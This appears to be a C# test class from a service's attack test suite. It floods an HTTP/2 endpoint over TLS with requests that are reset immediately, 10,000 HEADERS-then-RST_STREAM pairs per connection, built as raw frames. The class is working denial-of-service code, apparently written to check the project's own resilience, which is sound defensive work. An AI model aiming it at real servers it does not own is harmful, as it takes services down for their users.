namespace UserSvc.Tests.Attacks;

/// <summary>Requests over HTTP/2 that are reset at once: 10,000 a connection.</summary>
internal sealed class AbortedStreams() : Attack("http2-aborted-streams", 200)
{
    private const int Batches = 100;
    private const int Batch = 100;
    private const byte Cancel = 8;

    // Made once: the attackers' own work would slow down the quiet client, too.
    private static readonly byte[][] Frames = [.. Enumerable.Range(0, Batches).Select(batch =>
        Enumerable.Range(batch * Batch, Batch).SelectMany(n => Abort((2 * n) + 1)).ToArray())];

    public override bool OverTls => true;

    protected override async Task TakeTurnAsync(AttackTarget target, int client, CancellationToken ending)
    {
        var connection = await ConnectHttp2Async(target.Https, client, ending);
        await WriteAsync(connection, async () =>
        {
            foreach (var frames in Frames)
            {
                await connection.WriteAsync(frames, ending);
                Count(Batch);
            }
        });
    }

    private static IEnumerable<byte> Abort(int stream) =>
    [
        .. Http2Frame.Create(Http2Frame.Headers, Http2Frame.EndStream | Http2Frame.EndHeaders, stream, Http2Frame.Get),
        .. Http2Frame.Create(Http2Frame.ResetStream, 0, stream, 0, 0, 0, Cancel),
    ];
}
